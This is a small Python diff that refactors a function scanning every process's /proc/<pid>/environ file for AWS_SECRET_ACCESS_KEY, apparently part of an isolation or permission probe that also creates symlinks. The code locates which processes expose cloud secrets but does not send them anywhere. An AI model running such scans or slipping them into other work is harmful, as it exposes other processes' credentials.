@@ -47,8 +47,10 @@ def can(what):
     except OSError:
         return False
 def others():
-    found = [p for p in Path("/proc").glob("[0-9]*/environ") if can(p.read_bytes)]
-    return [p for p in found if b"AWS_SECRET_ACCESS_KEY" in p.read_bytes()]
+    found = []
+    for p in Path("/proc").glob("[0-9]*/environ"):
+        can(lambda: found.append(p) if b"AWS_SECRET_ACCESS_KEY" in p.read_bytes() else None)
+    return found
 if asked.get("link"):
     Path(sys.argv[1]).symlink_to(asked["link"])
 else:
